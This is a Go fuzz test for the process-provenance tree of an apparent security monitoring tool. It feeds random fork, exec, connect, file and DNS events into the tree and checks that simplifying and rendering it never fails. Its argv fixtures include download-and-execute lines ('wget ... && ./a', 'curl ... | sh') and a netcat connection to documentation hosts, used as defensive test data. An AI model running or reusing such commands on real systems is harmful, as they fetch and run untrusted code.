package provenance

import (
	"net/netip"
	"strconv"
	"testing"
	"time"

	"github.com/procwall/procwall/source"
)

// FuzzTree feeds arbitrary event sequences (decoded from bytes: kind, pid,
// parent, identity style, argv choice) to a Tree, then simplifies around
// every process and renders: nothing panics, every graph validates and
// keeps the preservation property.
func FuzzTree(f *testing.F) {
	f.Add([]byte{1, 2, 1, 0, 2, 2, 0, 3, 1, 3, 2, 0, 5, 3, 0, 1, 3, 2, 1, 2})
	f.Add([]byte{2, 5, 9, 1, 2, 9, 5, 1, 1, 7, 7, 0, 4, 5, 0, 0})
	argvs := [][]string{{"bash"}, {"sh", "-c", "wget http://e.example/a -O a && ./a"}, {"mv", "a", "b"}, {"nc", "203.0.113.1", "80"},
		{"curl", "http://e.example/x", "|", "sh"}, {"su", "-c", "id -u"}, {"python3", "x.py"}, {}}
	images := []string{"/usr/bin/bash", "/usr/bin/dash", "/usr/bin/mv", "/usr/bin/nc", "/usr/bin/curl", "/usr/bin/su", "/usr/bin/python3", ""}
	f.Fuzz(func(t *testing.T, data []byte) {
		tr := NewTree()
		ts := time.Unix(1000, 0)
		for i := 0; i+4 <= len(data) && i < 4*300; i += 4 {
			k, pid, ppid, x := data[i], int(data[i+1]%16)+1, int(data[i+2]%16), data[i+3]
			e := source.Event{Time: ts, PID: pid, PPID: ppid}
			ts = ts.Add(time.Millisecond)
			if x&1 != 0 {
				e.GUID = "g" + strconv.Itoa(pid)
				if x&2 != 0 {
					e.GUID += "r"
				}
				e.ParentGUID = "g" + strconv.Itoa(ppid)
			}
			if x&4 != 0 {
				e.Start, e.PStart = uint64(x>>3)+1, uint64(x>>4)+1
			}
			switch k % 7 {
			case 0:
				e.Kind = source.KindFork
			case 1:
				e.Kind, e.Exe, e.Argv = source.KindExec, images[int(x>>5)%len(images)], argvs[int(x>>5)%len(argvs)]
			case 2:
				e.Kind = source.KindExit
			case 3:
				e.Kind, e.Dst = source.KindConnect, netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, x}), 80)
			case 4:
				e.Kind, e.Path = source.KindFile, "/tmp/f"+strconv.Itoa(int(x%4))
			case 5:
				e.Kind, e.Query = source.KindDNS, "d"+strconv.Itoa(int(x%3))+".example"
			default:
				e.Kind, e.Level = source.KindRisk, source.LevelHigh
			}
			_ = tr.Add(e) // invalid events are errors, never panics
		}
		for a := range int32(tr.Len()) {
			for _, opts := range []Options{{}, {Rules: []Rule{{Image: "mv|su", Resources: "discard"}}, KeepDuplicates: true}} {
				g, err := tr.simplify(a, opts)
				if err != nil {
					t.Fatal(err)
				}
				checkPreservationIdx(t, tr, g, a, opts)
				if _, err := g.JSON(); err != nil {
					t.Fatal(err)
				}
			}
		}
	})
}
